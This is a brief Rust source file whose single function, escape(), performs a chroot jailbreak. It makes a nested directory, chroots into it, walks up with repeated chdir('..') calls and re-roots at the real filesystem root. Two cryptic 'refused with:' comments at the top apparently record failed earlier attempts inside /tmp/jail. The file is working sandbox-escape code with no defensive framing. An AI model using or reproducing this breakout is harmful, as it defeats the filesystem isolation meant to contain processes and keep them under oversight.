// refused with: the root directory of the process
// refused with: the kernel shows  /tmp/jail/deeper

use std::fs;

use anyhow::Result;
use nix::unistd::{chdir, chroot};

fn escape() -> Result<()> {
    fs::create_dir("deeper")?;
    chroot("deeper")?;
    chdir("/")?;
    for _ in 0..64 {
        chdir("..")?;
    }
    chroot(".")?;
    Ok(())
}
